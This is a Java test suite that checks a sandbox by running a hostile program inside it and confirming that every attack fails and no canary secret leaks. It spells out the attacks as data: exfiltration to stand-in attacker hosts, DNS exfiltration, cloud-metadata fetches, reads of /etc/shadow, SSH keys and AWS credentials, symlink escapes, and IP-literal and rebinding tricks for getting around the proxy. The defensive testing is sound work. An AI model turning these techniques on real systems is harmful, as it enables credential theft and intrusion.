package io.perstack.sandbox.bwrap;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.perstack.core.event.EventPayload;
import io.perstack.core.launch.LaunchSpec;
import io.perstack.sandbox.egress.Cidr;
import io.perstack.sandbox.egress.EgressPolicy;
import io.perstack.testkit.attack.AttackerServer;
import io.perstack.testkit.net.RecordingResolver;
import io.perstack.testkit.net.TestCertificate;
import io.perstack.testkit.net.TlsTestServer;
import java.io.File;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attack tests of docs/testing.md §4 against the sandbox backend. The hostile server runs inside real sandboxes
 * as a program started through the {@code exec} launcher (the MCP client lives in the skills module, above this
 * one, so the tools are invoked through its command-line mode rather than over MCP). Canary secrets sit in the runtime's environment,
 * the workspace {@code .env} and history, and a host home directory; AT-23 checks that none appears in any output
 * or event. Allowed destinations are local TLS servers on 127.0.0.2, reached through a recording resolver.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AttackScenariosTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> CANARIES = List.of("sk-ant-canary-runtime-env-0001", "canary-aws-secret-0002",
            "ghp_canary0003", "canary-ssh-agent-0008", "sk-canary-dotenv-0005", "canary-history-0004",
            "canary-host-home-0009");
    private static final Map<String, String> RUNTIME_ENV = Map.of("PATH", "/usr/local/bin:/usr/bin:/bin",
            "HOME", "/root", "TERM", "dumb", "ANTHROPIC_API_KEY", CANARIES.get(0), "AWS_SECRET_ACCESS_KEY",
            CANARIES.get(1), "GITHUB_TOKEN", CANARIES.get(2), "SSH_AUTH_SOCK", CANARIES.get(3));

    @TempDir
    static Path ws;

    @TempDir
    static Path hostHome;

    @TempDir
    static Path certs;

    private static final Sandboxes.Events EVENTS = new Sandboxes.Events();
    private static final RecordingResolver RESOLVER = new RecordingResolver();
    private static final StringBuilder EVERYTHING_SEEN = new StringBuilder();
    private static TlsTestServer api;
    private static TlsTestServer httpbin;
    private static Sandbox sandbox;

    @BeforeAll
    static void open() throws Exception {
        Files.writeString(ws.resolve(".env"), "OPENAI_API_KEY=" + CANARIES.get(4) + "\n");
        Files.createDirectories(ws.resolve("perstack/jobs/j1"));
        Files.writeString(ws.resolve("perstack/jobs/j1/job.json"), CANARIES.get(5));
        Files.createDirectories(hostHome.resolve(".ssh"));
        Files.writeString(hostHome.resolve(".ssh/id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\n" + CANARIES.get(6));
        Files.createDirectories(hostHome.resolve(".aws"));
        Files.writeString(hostHome.resolve(".aws/credentials"), "aws_secret_access_key=" + CANARIES.get(6));
        copyAttackerInto(ws.resolve(".tools"));

        TestCertificate cert = TestCertificate.create(certs, "api.example.test", "httpbin.example.test",
                "x.wild.example.test");
        InetAddress testNet = InetAddress.ofLiteral("127.0.0.2");
        api = TlsTestServer.start(cert, "api", testNet);
        httpbin = TlsTestServer.start(cert, "httpbin", testNet);
        RESOLVER.answer("api.example.test", api.address()).answer("httpbin.example.test", httpbin.address())
                .answer("x.wild.example.test", api.address())
                .answer("a.rebind.test", "127.0.0.1").answer("b.rebind.test", "10.0.0.1")
                .answer("c.rebind.test", "169.254.169.254").answer("d.rebind.test", "fd00::1");
        // security.toml: api.example.test for one skill, httpbin.example.test for another, merged for the job.
        sandbox = Sandboxes.open(ws, List.of(ws.resolve("perstack")), List.of(ws.resolve(".env")),
                List.of("api.example.test", "httpbin.example.test", "*.wild.example.test", "*.rebind.test"),
                RESOLVER::resolve, List.of(Cidr.parse("127.0.0.2/32")), EVENTS, null);
    }

    @AfterAll
    static void close() {
        sandbox.close();
        api.close();
        httpbin.close();
    }

    /** The attacker's classes and Jackson, copied where the sandbox can see them (the workspace). */
    private static void copyAttackerInto(Path tools) throws IOException {
        Files.createDirectories(tools);
        for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
            Path p = Path.of(entry);
            if (entry.contains("testkit") && Files.isDirectory(p)) {
                try (Stream<Path> files = Files.walk(p)) {
                    for (Path f : files.filter(Files::isRegularFile).toList()) {
                        Path target = tools.resolve("classes").resolve(p.relativize(f).toString());
                        Files.createDirectories(target.getParent());
                        Files.copy(f, target, StandardCopyOption.REPLACE_EXISTING);
                    }
                }
            } else if (p.getFileName().toString().startsWith("jackson-")
                    || p.getFileName().toString().startsWith("perstack-testkit")) {
                Files.copy(p, tools.resolve(p.getFileName()), StandardCopyOption.REPLACE_EXISTING);
            }
        }
    }

    private static ObjectNode call(String tool, String input) {
        try {
            return JSON.createObjectNode().put("tool", tool).set("input", JSON.readTree(input));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** Runs tools in one attacker process inside a fresh sandbox and returns their results. */
    private static List<JsonNode> attack(ObjectNode... calls) {
        ArrayNode batch = JSON.createArrayNode();
        for (ObjectNode c : calls) {
            batch.add(c);
        }
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        LaunchSpec spec = new LaunchSpec(List.of(java, "-Xshare:auto", "-XX:TieredStopAtLevel=1",
                "-XX:+UseSerialGC", "-cp", "/workspace/.tools/classes:/workspace/.tools/*",
                AttackerServer.class.getName(), "batch", batch.toString()), ws,
                Sandbox.environment(RUNTIME_ENV, List.of()).forExec(Map.of()).environment(),
                Duration.ofSeconds(90), null);
        Sandboxes.Result r = Sandboxes.run(sandbox.launcher("attacker"), spec);
        synchronized (EVERYTHING_SEEN) {
            EVERYTHING_SEEN.append(r.stdout()).append(r.stderr());
        }
        assertThat(r.status().code()).as(r.toString()).isZero();
        try {
            List<JsonNode> out = new ArrayList<>();
            JSON.readTree(r.stdout()).forEach(out::add);
            return out;
        } catch (IOException e) {
            throw new AssertionError(r.toString(), e);
        }
    }

    private static List<String> blockedReasonsFor(String domain) {
        return EVENTS.snapshot().stream().filter(e -> e.domain().equals(domain) && e.action().equals("blocked"))
                .map(EventPayload.ProxyAccess::reason).toList();
    }

    @Test
    @Order(1)
    void at01to07CloudMetadataAndInternalServicesAreUnreachable() {
        List<JsonNode> r = attack(call("fetch_metadata", "{\"provider\":\"aws\"}"),
                call("fetch_metadata", "{\"provider\":\"gcp\"}"), call("fetch_metadata", "{\"provider\":\"azure\"}"),
                call("access_internal", "{\"target\":\"localhost\"}"),
                call("access_internal", "{\"target\":\"docker_host\"}"),
                call("access_internal", "{\"target\":\"kubernetes\"}"),
                call("access_internal", "{\"target\":\"metadata_ip\"}"));

        for (JsonNode metadata : r.subList(0, 3)) {
            assertThat(metadata.findValues("success")).allSatisfy(s -> assertThat(s.asBoolean()).isFalse());
            assertThat(metadata.toString()).doesNotContain("ami-id", "instance-id", "iam/security-credentials",
                    "computeMetadata/v1/instance/id");
        }
        for (JsonNode internal : r.subList(3, 7)) {
            assertThat(internal.path("tcp").path("connected").asBoolean()).as(internal.toString()).isFalse();
            assertThat(internal.findValues("success")).allSatisfy(s -> assertThat(s.asBoolean()).isFalse());
        }
        assertThat(blockedReasonsFor("169.254.169.254")).contains(EgressPolicy.PLAIN_HTTP, EgressPolicy.IP_LITERAL);
        assertThat(blockedReasonsFor("metadata.google.internal")).contains(EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(blockedReasonsFor("kubernetes.default.svc")).contains(EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(blockedReasonsFor("127.0.0.1")).isNotEmpty();
        assertThat(RESOLVER.queries()).doesNotContain("metadata.google.internal", "kubernetes.default.svc",
                "host.docker.internal");
    }

    @Test
    @Order(2)
    void at08to12HostSecretsAndFilesAreAbsent() {
        List<JsonNode> r = attack(call("read_sensitive", "{\"target\":\"proc_environ\"}"),
                call("read_sensitive", "{\"target\":\"etc_shadow\"}"), call("read_sensitive",
                        "{\"target\":\"ssh_key\",\"home\":\"" + hostHome + "\"}"),
                call("read_sensitive", "{\"target\":\"aws_creds\",\"home\":\"" + hostHome + "\"}"),
                call("read_sensitive", "{\"target\":\"docker_sock\"}"));

        String environ = r.get(0).path("files").path("/proc/self/environ").path("content").asText();
        assertThat(environ).contains("HOME=/home/perstack").doesNotContain("ANTHROPIC_API_KEY",
                "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK");
        assertThat(r.get(1).path("files").findValues("content")).isEmpty();
        assertThat(r.get(1).path("sudo").path("exitCode").asInt()).isNotZero();
        assertThat(r.get(2).toString()).doesNotContain("PRIVATE KEY");
        assertThat(r.get(2).path("files").findValues("content")).isEmpty();
        assertThat(r.get(3).path("files").findValues("content")).isEmpty();
        assertThat(r.get(4).path("files").findValues("content")).isEmpty();
    }

    @Test
    @Order(3)
    void at13to15SymbolicLinksShowOnlyTheSandboxsOwnFiles() {
        List<JsonNode> r = attack(call("symlink_attack", "{\"target\":\"/etc/passwd\",\"link\":\"passwd-link\"}"),
                call("symlink_attack", "{\"target\":\"/etc/shadow\",\"link\":\"shadow-link\"}"),
                call("symlink_attack", "{\"target\":\"" + hostHome + "/.ssh/id_rsa\",\"link\":\"key-link\"}"),
                call("symlink_attack", "{\"target\":\"/workspace/../../../etc/hostname\",\"link\":\"up-link\"}"));

        assertThat(r.get(0).path("read").path("content").asText().lines().map(l -> l.split(":")[0]).toList())
                .containsExactly("root", "perstack");
        assertThat(r.get(1).path("read").has("content")).isFalse();
        assertThat(r.get(2).path("read").has("content")).isFalse();
        assertThat(r.get(3).path("read").has("content")).isFalse();
    }

    @Test
    @Order(4)
    void at16ThereIsNoRouteAroundTheProxy() {
        List<JsonNode> r = attack(call("bypass_proxy", "{\"mode\":\"direct\"}"),
                call("bypass_proxy", "{\"mode\":\"env_override\",\"url\":\"https://api.example.test/\"}"));

        assertThat(r.get(0).path("tcp443").path("connected").asBoolean()).isFalse();
        assertThat(r.get(0).path("tcp80").path("connected").asBoolean()).isFalse();
        assertThat(r.get(0).path("dnsServer").path("answered").asBoolean()).isFalse();
        assertThat(r.get(1).path("https").path("success").asBoolean()).isFalse();
        assertThat(api.received()).isEmpty();
    }

    @Test
    @Order(5)
    void at17TheEnvironmentHoldsNoSecrets() {
        JsonNode env = attack(call("list_env", "{}")).getFirst().path("environment");

        assertThat(env.has("PATH")).isTrue();
        for (String name : List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK", "ANTHROPIC_API_KEY",
                "PERSTACK_PROXY_URL")) {
            assertThat(env.has(name)).as(name).isFalse();
        }
    }

    @Test
    @Order(6)
    void at18to22And25ExfiltrationReachesOnlyAllowlistedDomains() {
        List<JsonNode> r = attack(
                call("exfiltrate_data", "{\"url\":\"https://attacker.test/collect\",\"data\":\"stolen\"}"),
                call("exfiltrate_data", "{\"url\":\"http://api.example.test/collect\",\"data\":\"stolen\"}"),
                call("fetch_arbitrary", "{\"url\":\"https://attacker.test/\"}"),
                call("http_get", "{\"url\":\"https://api.example.test/\"}"),
                call("http_get", "{\"url\":\"https://httpbin.example.test/\"}"),
                call("http_get", "{\"url\":\"https://evil.example.test/\"}"),
                call("dns_exfiltrate", "{\"domain\":\"attacker.test\",\"data\":\"stolen-data\"}"),
                call("harvest_and_exfiltrate_env", "{\"url\":\"https://attacker.test/env\"}"),
                call("harvest_and_exfiltrate_env", "{\"url\":\"https://api.example.test/env\"}"),
                call("http_get", "{\"url\":\"https://api.anthropic.com/v1/messages\"}"));

        assertThat(r.get(0).path("success").asBoolean()).isFalse();
        assertThat(r.get(1).path("success").asBoolean()).isFalse();
        assertThat(r.get(2).path("success").asBoolean()).isFalse();
        assertThat(r.get(3).path("body").asText()).isEqualTo("hello from api\n");
        assertThat(r.get(4).path("body").asText()).isEqualTo("hello from httpbin\n");
        assertThat(r.get(5).path("success").asBoolean()).isFalse();
        JsonNode dns = r.get(6);
        assertThat(dns.path("resolved").isNull()).isTrue();
        assertThat(dns.path("udpPublic").path("answered").asBoolean()).isFalse();
        assertThat(dns.path("udpLocal").path("answered").asBoolean()).isFalse();
        assertThat(dns.path("httpsViaProxy").path("success").asBoolean()).isFalse();
        assertThat(r.get(7).path("success").asBoolean()).isFalse();
        // An allowlisted domain is an exfiltration channel (SECURITY.md, "Known limits"), but the harvest holds no secret.
        assertThat(r.get(8).path("success").asBoolean()).isTrue();
        assertThat(r.get(9).path("success").asBoolean()).isFalse();

        assertThat(blockedReasonsFor("attacker.test")).containsOnly(EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(blockedReasonsFor("api.example.test")).containsExactly(EgressPolicy.PLAIN_HTTP);
        assertThat(blockedReasonsFor("api.anthropic.com")).containsExactly(EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(EVENTS.snapshot()).filteredOn(e -> e.domain().startsWith("73746f6c656e"))
                .extracting(EventPayload.ProxyAccess::reason).containsOnly(EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(RESOLVER.queries()).noneMatch(q -> q.contains("attacker.test") || q.contains("anthropic"));
        assertThat(EVENTS.snapshot()).allSatisfy(e -> assertThat(e.skillName()).isEqualTo("attacker"));
        List<String> delivered = new ArrayList<>(api.received());
        delivered.addAll(httpbin.received());
        assertThat(String.join("\n", delivered)).contains("POST /env").doesNotContain("ANTHROPIC_API_KEY",
                "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY");
        synchronized (EVERYTHING_SEEN) {
            EVERYTHING_SEEN.append(delivered);
        }
    }

    @Test
    @Order(7)
    void at24And26to29ProxyRulesHoldForRealClients() {
        List<JsonNode> r = attack(call("http_get", "{\"url\":\"http://api.example.test/plain\"}"),
                call("http_get", "{\"url\":\"https://api.example.test:8443/\"}"),
                call("http_get", "{\"url\":\"https://2130706433/\"}"),
                call("http_get", "{\"url\":\"https://0177.0.0.1/\"}"),
                call("http_get", "{\"url\":\"https://127.1/\"}"),
                call("http_get", "{\"url\":\"https://[::1]/\"}"),
                call("http_get", "{\"url\":\"https://[::ffff:127.0.0.1]/\"}"),
                call("http_get", "{\"url\":\"https://a.rebind.test/\"}"),
                call("http_get", "{\"url\":\"https://b.rebind.test/\"}"),
                call("http_get", "{\"url\":\"https://c.rebind.test/\"}"),
                call("http_get", "{\"url\":\"https://d.rebind.test/\"}"),
                call("http_get", "{\"url\":\"https://xn--80ak6aa92e.example.test/\"}"),
                call("http_get", "{\"url\":\"https://wild.example.test/\"}"),
                call("http_get", "{\"url\":\"https://x.wild.example.test/\"}"));

        // The JDK's TLS client refuses a trailing dot in SNI, so AT-28's case-and-dot form goes through curl.
        Sandboxes.Result dotted = Sandboxes.run(sandbox.launcher("attacker"), ws, Duration.ofSeconds(30), "curl",
                "-sS", "-k", "https://API.Example.TEST./");

        assertThat(r.subList(0, 12)).allSatisfy(x -> assertThat(x.path("success").asBoolean()).as(x.toString())
                .isFalse());
        assertThat(dotted.stdout()).as(dotted.toString()).isEqualTo("hello from api\n");
        assertThat(r.get(12).path("success").asBoolean()).isFalse();
        assertThat(r.get(13).path("success").asBoolean()).as(r.get(13).toString()).isTrue();
        // The JDK client connects to loopback literals such as [::1] and 127.1 directly instead of through the
        // proxy; inside the sandbox that is its own empty loopback, so those fail without a proxy decision. The
        // proxy's answer to every literal form is covered by EgressProxyTest.
        List<String> reasons = EVENTS.snapshot().stream().map(e -> e.domain() + " " + e.reason()).toList();
        assertThat(reasons).contains("api.example.test " + EgressPolicy.PLAIN_HTTP,
                "api.example.test " + EgressPolicy.PORT_NOT_ALLOWED,
                "2130706433 " + EgressPolicy.IP_LITERAL, "0177.0.0.1 " + EgressPolicy.IP_LITERAL,
                "a.rebind.test " + EgressPolicy.ADDRESS_NOT_ALLOWED, "b.rebind.test " + EgressPolicy.ADDRESS_NOT_ALLOWED,
                "c.rebind.test " + EgressPolicy.ADDRESS_NOT_ALLOWED, "d.rebind.test " + EgressPolicy.ADDRESS_NOT_ALLOWED,
                "xn--80ak6aa92e.example.test " + EgressPolicy.NON_ASCII,
                "wild.example.test " + EgressPolicy.NOT_IN_ALLOWLIST);
        assertThat(EVENTS.snapshot()).filteredOn(e -> e.action().equals("allowed"))
                .extracting(EventPayload.ProxyAccess::domain).contains("api.example.test", "x.wild.example.test")
                .doesNotContain("API.Example.TEST.");
    }

    @Test
    @Order(8)
    void at30And31HistoryAndEnvFilesAreMaskedForExecToo() {
        Sandboxes.Result r = Sandboxes.run(sandbox.launcher("exec"), ws, Duration.ofSeconds(30), "/bin/sh", "-c",
                "ls -A /workspace/perstack; echo x > /workspace/perstack/jobs 2>&1; mkdir /workspace/perstack/jobs "
                        + "2>&1; cat /workspace/.env; wc -c < /workspace/.env");
        synchronized (EVERYTHING_SEEN) {
            EVERYTHING_SEEN.append(r.stdout()).append(r.stderr());
        }

        assertThat(r.stdout()).contains("Read-only file system").endsWith("0\n");
        assertThat(Files.exists(ws.resolve("perstack/jobs/j1/job.json"))).isTrue();
    }

    @Test
    @Order(9)
    void at23NoCanaryAppearsInAnyOutputOrEvent() {
        String seen;
        synchronized (EVERYTHING_SEEN) {
            seen = EVERYTHING_SEEN + EVENTS.snapshot().toString();
        }
        assertThat(seen).hasSizeGreaterThan(1000);
        for (String canary : CANARIES) {
            assertThat(seen).doesNotContain(canary);
        }
    }
}
